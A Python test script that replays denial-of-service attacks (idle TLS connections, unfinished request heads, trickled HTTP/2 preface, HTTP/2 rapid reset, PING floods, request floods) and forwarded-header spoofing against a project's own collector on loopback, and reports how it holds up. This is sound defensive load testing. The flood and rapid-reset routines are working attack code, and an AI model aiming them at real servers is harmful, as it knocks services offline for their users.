#!/usr/bin/env python3
"""Replays the hostile-internet attacks of docs/security.md ("Measured attacks") against a
collector on loopback, and prints what it measured. Loopback only, bounded in count and time.

    scripts/abuse.py idle PORT COUNT [SECONDS]        TLS handshakes, then nothing
    scripts/abuse.py headers PORT COUNT BYTES PID     unfinished request heads; the peak RSS
    scripts/abuse.py trickle PORT                     the HTTP/2 preface, a byte every 5 s
    scripts/abuse.py h2idle PORT                      HTTP/2: one request, then idle, answering pings
    scripts/abuse.py reset PORT SECONDS               HTTP/2 rapid reset
    scripts/abuse.py spoof PORT COUNT                 visits through a trusted proxy's X-Forwarded-For,
                                                      each with a made-up Forwarded of the client's
    scripts/abuse.py keyless PORT CONNECTIONS SECONDS /time and /healthz from one address, as fast
                                                      as they are answered
    scripts/abuse.py ping PORT CONNECTIONS SECONDS    HTTP/2 PING frames as fast as they are taken

Each run also asks a fresh client for /healthz while the attack holds its connections.
"""

import asyncio
import ssl
import struct
import sys
import time

HOST = "127.0.0.1"


def tls_context(alpn):
    # A local test against the collector's own self-signed certificate: nothing to verify.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context


async def connect(port, alpn="http/1.1", timeout=15):
    try:
        return await asyncio.wait_for(
            asyncio.open_connection(HOST, port, ssl=tls_context(alpn), server_hostname="localhost"),
            timeout,
        )
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        return None


async def healthz(port):
    """Seconds a fresh client waits for /healthz, or None if it got no 200 within 15 s."""
    started = time.monotonic()
    while time.monotonic() - started < 15:
        pair = await connect(port, timeout=5)
        if pair:
            reader, writer = pair
            try:
                writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                answer = await asyncio.wait_for(reader.read(64), 5)
                writer.close()
                if answer.startswith(b"HTTP/1.1 200"):
                    return time.monotonic() - started
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                pass
        await asyncio.sleep(0.1)
    return None


async def closed(reader):
    try:
        while await reader.read(4096):
            pass
    except (OSError, ssl.SSLError):
        pass


async def open_many(port, count, alpn="http/1.1"):
    gate = asyncio.Semaphore(200)

    async def one():
        async with gate:
            return await connect(port, alpn)

    return [pair for pair in await asyncio.gather(*(one() for _ in range(count))) if pair]


async def idle(port, count, seconds=30):
    started = time.monotonic()
    pairs = await open_many(port, count)
    print(f"{count} idle TLS clients: {len(pairs)} completed the handshake "
          f"in {time.monotonic() - started:.1f} s")
    watchers = [asyncio.ensure_future(closed(reader)) for reader, _ in pairs]
    fresh = asyncio.ensure_future(healthz(port))
    while time.monotonic() - started < seconds:
        await asyncio.sleep(1)
        still = sum(1 for watcher in watchers if not watcher.done())
        print(f"  {time.monotonic() - started:5.1f} s: {still} held by the collector")
        if still == 0:
            break
    print(f"fresh client /healthz during the attack: answered after {await fresh} s")
    for _, writer in pairs:
        writer.close()


def rss(pid):
    status = open(f"/proc/{pid}/status").read()
    fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
    return tuple(int(fields[key].split()[0]) // 1024 for key in ("VmRSS", "VmHWM"))


async def headers(port, count, size, pid):
    print(f"before: RSS {rss(pid)[0]} MiB")
    pairs = await open_many(port, count)
    pad = b"a" * size

    async def send(writer):
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\nX-Pad: ")
            writer.write(pad)  # never finished: no end of line, no blank line
            await asyncio.wait_for(writer.drain(), 20)
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            pass

    await asyncio.gather(*(send(writer) for _, writer in pairs))
    await asyncio.sleep(2)
    answered = 0
    for reader, _ in pairs:
        try:
            head = await asyncio.wait_for(reader.read(32), 0.05)
            answered += head.startswith(b"HTTP/1.1 431")
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            pass
    now, peak = rss(pid)
    print(f"{len(pairs)} clients sent {size} B of unfinished head: {answered} answered 431; "
          f"RSS {now} MiB, peak {peak} MiB")
    print(f"fresh client /healthz during the attack: {await healthz(port)} s")
    for _, writer in pairs:
        writer.close()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


async def reset(port, seconds):
    """Opens HTTP/2 connections that reset each stream right after opening it."""
    # HPACK: :method GET, :scheme https, :path /healthz (literal), :authority localhost.
    block = b"\x82\x87" + b"\x44\x08/healthz" + b"\x41\x09localhost"
    started = time.monotonic()
    connections = 0
    while time.monotonic() - started < seconds:
        pair = await connect(port, "h2")
        if not pair:
            continue
        connections += 1
        reader, writer = pair
        out = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", frame(4, 0, 0)]
        for index in range(200):
            stream = 2 * index + 1
            out.append(frame(1, 0x4, stream, block))  # HEADERS, END_HEADERS, no END_STREAM
            out.append(frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
        try:
            writer.write(b"".join(out))
            await asyncio.wait_for(writer.drain(), 5)
            await asyncio.wait_for(closed(reader), 5)
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            pass
        writer.close()
    print(f"rapid reset: {connections} connections in {seconds} s")
    print(f"fresh client /healthz after the attack: {await healthz(port)} s")


async def trickle(port):
    reader, writer = await connect(port, "h2")
    started = time.monotonic()

    async def send():
        for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n":
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(5)

    sender = asyncio.ensure_future(send())
    await asyncio.wait_for(closed(reader), 150)
    sender.cancel()
    print(f"HTTP/2 preface trickled a byte every 5 s: closed after {time.monotonic() - started:.1f} s")


async def h2idle(port):
    """One request, then nothing but answers to the collector's SETTINGS and PINGs."""
    reader, writer = await connect(port, "h2")
    block = b"\x82\x87" + b"\x44\x08/healthz" + b"\x41\x09localhost"
    writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(1, 0x5, 1, block))
    started = time.monotonic()
    goaway = None
    try:
        while True:
            head = await asyncio.wait_for(reader.readexactly(9), 600)
            length = int.from_bytes(head[:3], "big")
            kind, flags = head[3], head[4]
            payload = await reader.readexactly(length)
            if kind == 4 and not flags & 1:
                writer.write(frame(4, 1, 0))  # SETTINGS ACK
            elif kind == 6 and not flags & 1:
                writer.write(frame(6, 1, 0, payload))  # PING ACK
            elif kind == 7 and goaway is None:
                goaway = time.monotonic() - started
            await writer.drain()
    except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError, ssl.SSLError):
        pass
    shown = "never" if goaway is None else f"after {goaway:.1f} s"
    print(f"idle HTTP/2 answering pings: GOAWAY {shown}, "
          f"closed after {time.monotonic() - started:.1f} s")


async def request(reader, writer, head):
    """Sends one HTTP/1.1 request head on a keep-alive connection; its status, or None."""
    writer.write(head)
    await writer.drain()
    line = await asyncio.wait_for(reader.readline(), 10)
    length = 0
    while True:
        header = await asyncio.wait_for(reader.readline(), 10)
        if header in (b"\r\n", b""):
            break
        name, _, value = header.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    await asyncio.wait_for(reader.readexactly(length), 10)
    return int(line.split()[1]) if line else None


async def spoof(port, count):
    """The proxy's X-Forwarded-For fixed, the client's own Forwarded changing every visit."""
    body = b'{"url": "https://mygame.example/?utm_source=spoof"}'
    statuses = {}
    reader, writer = await connect(port)
    for n in range(count):
        head = (
            b"POST /collect HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
            b"X-Forwarded-For: 203.0.113.9\r\n"
            + f"Forwarded: for=198.51.{n // 250}.{n % 250 + 1}\r\n".encode()
            + f"Content-Length: {len(body)}\r\n\r\n".encode() + body
        )
        status = await request(reader, writer, head)
        statuses[status] = statuses.get(status, 0) + 1
    writer.close()
    print(f"{count} visits, one client behind the proxy with a made-up Forwarded each: {statuses}")


async def keyless(port, connections, seconds):
    statuses = {}
    deadline = time.monotonic() + seconds

    async def one(index):
        pair = await connect(port)
        if not pair:
            return
        reader, writer = pair
        path = b"/time" if index % 2 else b"/healthz"
        head = b"GET " + path + b" HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 198.51.100.66\r\n\r\n"
        try:
            while time.monotonic() < deadline:
                status = await request(reader, writer, head)
                statuses[status] = statuses.get(status, 0) + 1
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError):
            pass
        writer.close()

    await asyncio.gather(*(one(index) for index in range(connections)))
    total = sum(statuses.values())
    print(f"/time and /healthz from one address on {connections} connections for {seconds} s: "
          f"{total} answers ({total / seconds:.0f}/s): {statuses}")


async def ping(port, connections, seconds):
    """PING frames as fast as the connection takes them; counts the PONGs and when it ended."""
    results = []

    async def one():
        pair = await connect(port, "h2")
        if not pair:
            return
        reader, writer = pair
        started = time.monotonic()
        pings = frame(6, 0, 0, b"12345678") * 1000
        writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        sent, pongs, goaway, received = 0, 0, None, b""

        async def send():
            nonlocal sent
            try:
                while time.monotonic() - started < seconds and not writer.is_closing():
                    writer.write(pings)
                    await writer.drain()
                    sent += 1000
            except (OSError, ssl.SSLError):
                pass

        sender = asyncio.ensure_future(send())
        try:
            while time.monotonic() - started < seconds + 5:
                chunk = await asyncio.wait_for(reader.read(65536), seconds + 5)
                if not chunk:
                    break
                received += chunk
                while len(received) >= 9:
                    length = int.from_bytes(received[:3], "big")
                    if len(received) < 9 + length:
                        break
                    kind, flags = received[3], received[4]
                    if kind == 6 and flags & 1:
                        pongs += 1
                    elif kind == 7:
                        goaway = int.from_bytes(received[13:17], "big")
                    received = received[9 + length:]
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            pass
        sender.cancel()
        writer.close()
        results.append((sent, pongs, goaway, time.monotonic() - started))

    await asyncio.gather(*(one() for _ in range(connections)))
    # What the client wrote is not counted: its writes after the close only fill its buffer.
    print(f"HTTP/2 PING flood on {connections} connections for {seconds} s:")
    for _, pongs, goaway, lived in results:
        code = "none" if goaway is None else hex(goaway)
        print(f"  {pongs} PONGs back ({pongs * 17 / 1e6:.1f} MB), GOAWAY {code}, "
              f"closed after {lived:.1f} s")


def main():
    attack, port, *rest = sys.argv[1:]
    port = int(port)
    if attack == "idle":
        asyncio.run(idle(port, int(rest[0]), *(int(x) for x in rest[1:])))
    elif attack == "headers":
        asyncio.run(headers(port, int(rest[0]), int(rest[1]), int(rest[2])))
    elif attack == "trickle":
        asyncio.run(trickle(port))
    elif attack == "h2idle":
        asyncio.run(h2idle(port))
    elif attack == "reset":
        asyncio.run(reset(port, int(rest[0])))
    elif attack == "spoof":
        asyncio.run(spoof(port, int(rest[0])))
    elif attack == "keyless":
        asyncio.run(keyless(port, int(rest[0]), int(rest[1])))
    elif attack == "ping":
        asyncio.run(ping(port, int(rest[0]), int(rest[1])))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
